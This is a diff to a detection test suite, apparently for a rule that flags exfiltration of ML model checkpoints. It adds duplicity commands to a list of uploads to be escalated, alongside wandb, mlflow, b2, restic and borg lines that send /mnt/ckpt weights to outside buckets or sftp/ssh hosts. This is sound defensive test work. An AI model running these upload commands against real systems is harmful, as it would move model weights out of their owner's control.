@@ -298,7 +298,7 @@ describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform a
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-014');
   });
 
-  it('escalates uploads through W&B, MLflow, DVC, Kaggle, GitHub releases, Modal, B2, restic and borg, and leaves their downloads', () => {
+  it('escalates uploads through W&B, MLflow, DVC, Kaggle, GitHub releases, Modal, B2, restic, borg and duplicity, and leaves their downloads', () => {
     for (const argv of [
       sh('wandb artifact put /mnt/ckpt/llama --name someone/proj/model --type model'),
       sh('mlflow artifacts log-artifacts --local-dir /mnt/ckpt/llama --run-id abc'),
@@ -308,6 +308,8 @@ describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform a
       sh('modal volume put drop /mnt/ckpt/model.pt'),
       sh('b2 upload-file drop /mnt/ckpt/model.pt m.pt'),
       sh('restic -r s3:s3.amazonaws.com/some-bucket backup /mnt/ckpt'),
+      sh('duplicity full /mnt/ckpt s3://some-bucket/x'),
+      sh('duplicity incr --no-encryption /mnt/ckpt sftp://u@203.0.113.5//srv/x'),
       sh('borg create ssh://u@203.0.113.5/./repo::ckpt /mnt/ckpt'),
     ]) {
       const ids = execRuleIds(argv);
@@ -321,6 +323,8 @@ describe('file-sharing tools and client command puts (MLS-EXFIL-014), platform a
       sh("gh release download v1 -p '*.whl'"),
       sh('kaggle datasets download -d x/y -p /data'),
       sh('restic -r /backup snapshots'),
+      sh('duplicity restore s3://corp-backup/x /restore'),
+      sh('duplicity collection-status s3://corp-backup/x'),
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-038');
   });
 });
